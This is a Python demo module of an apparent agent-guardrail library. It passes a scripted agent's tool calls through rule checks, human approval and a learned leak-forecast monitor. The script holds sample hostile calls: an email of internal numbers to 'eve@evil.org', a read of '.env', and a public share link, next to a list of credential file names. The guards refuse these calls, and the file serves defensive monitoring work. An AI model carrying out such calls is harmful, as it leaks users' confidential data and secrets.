"""The tool-call demo: a scripted agent's tool calls through one guard stack (the first part of ``agentguard demo``).

What most users come for, on the plain install (no framework, no network, no API key): an agent proposes
tool calls, and :class:`~agentguard.core.pipeline.Pipeline` (the one decision path every adapter and the
service use) decides each before it runs:

- ``rules`` (:class:`~agentguard.policies.rules.ToolRuleGuard`): default deny (an allow list), and deleting a
  file needs a human's approval (ESCALATE; the demo's approver answers through :meth:`Pipeline.resolve`);
- ``internal-mail``: mail only to ``@example.com`` addresses (a refused call: REJECT, the run goes on);
- ``leak-forecast`` (:class:`~agentguard.predictive.ProactiveGuard`, Pro2Guard): a DTMC over the run's call
  history (secret read, public link made, link posted; unsafe = a secret read and a link posted) learned
  with Eq. 1 from simulated runs; it judges the state each proposed call leads to and refuses a call from
  which the predicted probability of staying safe drops below the threshold: here the public link, made
  right after reading ``.env``, one call *before* the hazard (posting it).

The learned model and its numbers are computed when the demo runs (nothing here is hard-coded output).
"""

from __future__ import annotations

import sys
from dataclasses import dataclass
from typing import Any

import numpy as np

from ..core.pipeline import Pipeline
from ..core.types import Context, Step, ToolCall, Trace
from ..core.guard import GuardStack
from ..policies.rules import ArgumentRule, ToolRuleGuard
from ..predictive import DTMCLearner, ProactiveGuard
from ..spec import Abstraction, Predicate

__all__ = ["SCRIPT", "THRESHOLD", "history_state", "learn_leak_model", "run_tool_call_demo"]

THRESHOLD = 0.6  # alarm when the predicted P_safe of the state a call leads to is below this
SECRETS = (".env", "credentials", "id_rsa", "secrets")

#: the scripted agent's proposed calls, in order (what an LLM would propose)
SCRIPT = [
    ToolCall("read_file", {"path": "notes/q3.txt"}, "c1"),
    ToolCall("delete_file", {"path": "/tmp/old-report.pdf"}, "c2"),
    ToolCall("send_email", {"to": "eve@evil.org", "body": "q3 numbers"}, "c3"),
    ToolCall("send_email", {"to": "boss@example.com", "body": "q3 numbers"}, "c4"),
    ToolCall("read_file", {"path": ".env"}, "c5"),
    ToolCall("create_share_link", {"path": "workspace/", "public": True}, "c6"),
    ToolCall("post_message", {"channel": "#general", "text": "the q3 report is ready"}, "c7"),
]


def _bits(secret: bool, link: bool, posted: bool) -> dict[str, bool]:
    return {"secret_read": secret, "public_link": link, "posted": posted}


def history_state(history: list[ToolCall]) -> dict[str, bool]:
    """The concrete state of a run's call history: a secret file read, a public share link made, a link posted."""
    secret = any(c.name == "read_file" and any(s in str(c.arguments.get("path", "")) for s in SECRETS)
                 for c in history)
    link = any(c.name == "create_share_link" and bool(c.arguments.get("public")) for c in history)
    posted = link and any(c.name == "post_message" and "http" in str(c.arguments.get("text", "")) for c in history)
    return _bits(secret, link, posted)


def _abstraction() -> Abstraction:
    return Abstraction(predicates=[Predicate.of("secret_read", "secret_read"), Predicate.of("public_link", "public_link"),
                                   Predicate.of("posted", "posted")],
                       unsafe="secret_read and posted", valid_transition="hamming1", terminal="finish")


def _simulated_runs(n: int, seed: int) -> list[list[dict[str, bool]]]:
    """Seeded call histories of a support agent, one state per call (most calls change nothing). At each call:
    it reads a secret file with probability 0.08 (if it has not), makes a public share link with 0.08 (if it has
    not), posts a link it made with 0.5, ends the run with 0.15; otherwise it does something harmless."""
    rng = np.random.default_rng(seed)
    runs = []
    for _ in range(n):
        secret = link = posted = False
        run = [_bits(secret, link, posted)]
        for _step in range(60):
            u = rng.uniform()
            if u < 0.15:
                break
            u = rng.uniform()
            if not secret and u < 0.08:
                secret = True
            elif not link and 0.08 <= u < 0.16:
                link = True
            elif link and not posted and u >= 0.5:
                posted = True
            run.append(_bits(secret, link, posted))
        runs.append(run)
    return runs


def learn_leak_model(n: int = 400, seed: int = 0) -> tuple[Any, Abstraction]:
    """The DTMC of the call-history states (Eq. 1, alpha = 1) learned from :func:`_simulated_runs`."""
    ab = _abstraction()
    learner = DTMCLearner(ab, alpha=1)
    learner.add(Trace([Step(state=s) for s in run]) for run in _simulated_runs(n, seed))
    return learner.model(), ab


@dataclass
class _Tools:
    """The demo's tools (they only record what ran)."""

    ran: list[str]

    def run(self, call: ToolCall) -> str:
        self.ran.append(call.name)
        return f"{call.name} ok"


def _stack(model: Any, ab: Abstraction) -> GuardStack:
    rules = ToolRuleGuard(allow=["read_file", "send_email", "delete_file", "create_share_link", "post_message"],
                          escalate=["delete_*"], name="rules")
    mail = ToolRuleGuard(arguments=[ArgumentRule("send_email", "to", match=r"[^@\s,;<>]+@example\.com")], name="internal-mail")
    leak = ProactiveGuard(model, "G !unsafe", threshold=THRESHOLD, abstraction=ab.abstract, name="leak-forecast")
    return GuardStack([rules, mail, leak], on_error="halt", name="demo")


def run_tool_call_demo(quiet: bool = False, approve: bool = True) -> dict[str, Any]:
    """Run :data:`SCRIPT` through the stack; print one line per call; return what happened (rows, the learned
    model's size, what ran)."""
    def say(msg: str) -> None:
        if not quiet:
            print(msg, flush=True)

    model, ab = learn_leak_model()
    history: list[ToolCall] = []

    def state_fn(_context: Context, call: Any) -> dict[str, bool]:
        return history_state(history + ([call] if isinstance(call, ToolCall) else []))

    pipe = Pipeline(_stack(model, ab), state_fn=state_fn, adapter="demo")
    tools = _Tools([])
    say(f"guarded agent run (tool calls through agentguard.core.Pipeline; leak forecast: a {model.n}-state DTMC "
        f"learned from 400 simulated runs, alarm when P_safe < {THRESHOLD:g})")
    rows = []
    for i, call in enumerate(SCRIPT, 1):
        out = pipe.decide("demo-run", call)
        v = out.verdict
        p_safe = next((x.get("numbers", {}).get("probability") for x in (v.details or {}).get("verdicts", [])
                       if x.get("guard") == "leak-forecast"), None) if v is not None else None
        row = {"call": call.to_dict(), "decision": v.decision.name if v else "HALT", "guard": v.guard if v else "",
               "reason": v.reason if v else "", "p_safe": p_safe, "approver": None, "ran": False}
        text = f"{call.name}(" + ", ".join(f"{k}={val!r}" for k, val in call.arguments.items()) + ")"
        tag = f" (P_safe {p_safe:.2f})" if p_safe is not None else ""
        if out.ask:
            out = pipe.resolve(out, approve, approver="alice")
            row["approver"] = "alice"
            row["decision"] = f"ESCALATE -> {'approved' if out.execute else 'refused'}"
            verdict = (f"ESCALATE by {row['guard']} ({row['reason']}) -> alice "
                       f"{'approves: it runs' if out.execute else 'refuses'}")
        elif v is not None and v.decision.name != "ALLOW":
            verdict = f"{v.decision.name} by {v.guard}: {v.reason}"
        else:
            verdict = "ALLOW" + tag
        say(f"  {i}. {text}\n       {verdict}")
        if out.execute and out.call is not None:
            pipe.record(out, observation=tools.run(out.call))
            history.append(out.call)
            row["ran"] = True
        rows.append(row)
    warned = next((r for r in rows if r["guard"] == "leak-forecast" and not r["ran"]), None)
    hazard = history_state(history)
    say(f"  -> ran: {', '.join(tools.ran)}; the hazard (secret read and a public link posted) "
        f"{'was reached' if ab.abstract(hazard) in _unsafe_names(model) else 'was not reached'}"
        + (f"; the leak forecast refused {warned['call']['name']} before it" if warned else ""))
    pipe.finish("demo-run")
    return {"rows": rows, "ran": tools.ran, "model_states": model.n, "threshold": THRESHOLD,
            "hazard_reached": ab.abstract(hazard) in _unsafe_names(model),
            "warned_before_hazard": warned is not None}


def _unsafe_names(model: Any) -> set[str]:
    return {str(model.state_names[i]) for i in np.flatnonzero(model.labels["unsafe"])}


if __name__ == "__main__":  # pragma: no cover
    run_tool_call_demo(quiet="--quiet" in sys.argv)
